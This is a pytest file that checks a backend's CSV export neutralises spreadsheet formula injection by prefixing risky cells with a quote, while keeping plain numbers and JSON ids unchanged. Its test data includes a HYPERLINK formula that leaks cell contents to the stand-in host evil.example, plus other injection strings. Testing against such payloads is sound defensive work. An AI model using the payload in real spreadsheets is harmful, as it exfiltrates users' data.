"""CSV export opened as a spreadsheet would: no cell a user wrote can start a formula."""

import csv
import io

import pytest

from backend_app.services.requirements.export import spreadsheet_safe
from tests.api.test_batches import _wait_done
from tests.factories import auth_headers, make_user

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
IDS = [HYPERLINK, "+cmd", "-2+3", "@SUM(A1:A9)", "-12", "REQ-7"]


@pytest.mark.sqlite_only
def test_csv_export_neutralises_formula_cells_and_keeps_numbers(client, app, worker):
    headers = {**auth_headers(client, make_user()), "Content-Type": "text/markdown"}
    rows = [f"| {key} | The pump shall stop within 2 s. | {{}} |" for key in IDS]
    rejected = "| =1+1 | only two cells |"  # a rejected row keeps its id in the export too
    table = "\n".join(["| id | requirementText | context |", "|---|---|---|", *rows, rejected]) + "\n"
    res = client.post("/api/v1/batch/evaluate", data=table, headers=headers)
    assert res.status_code == 202, res.get_json()
    batch = _wait_done(res.get_json()["batch_id"])
    assert batch.job.status == "completed"

    exported = client.get(f"/api/v1/batch/{batch.id}/export?format=csv", headers=headers)
    cells = list(csv.DictReader(io.StringIO(exported.get_data(as_text=True))))
    assert [c["id"] for c in cells] == [
        "'" + HYPERLINK,
        "'+cmd",
        "'-2+3",
        "'@SUM(A1:A9)",
        "-12",  # only a number: a spreadsheet reads it as -12, nothing runs
        "REQ-7",
        "'=1+1",
    ]
    assert all(int(c["overall"]) >= 0 for c in cells[: len(IDS)])  # scores stay plain numbers
    for cell in (c for row in cells for c in row.values()):
        assert not cell or cell[0] not in "=+@\t\r" and not (cell[0] == "-" and cell != "-12"), cell

    # JSON keeps the id exactly as written: the quote is only for spreadsheets.
    as_json = client.get(f"/api/v1/batch/{batch.id}/export?format=json", headers=headers).get_json()
    assert as_json["results"][0]["id"] == HYPERLINK


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("\t=cmd", "'\t=cmd"),
        ("\r=cmd", "'\r=cmd"),
        ("-1+1", "'-1+1"),
        ("@x", "'@x"),
        ("+", "'+"),
        ("-", "'-"),
        ("-3.5", "-3.5"),
        ("+7", "+7"),
        ("-1e5", "-1e5"),
        (-4, -4),
        (2.5, 2.5),
        (None, None),
        ("plain", "plain"),
        ("a=b", "a=b"),
    ],
)
def test_spreadsheet_safe(value, safe):
    assert spreadsheet_safe(value) == safe
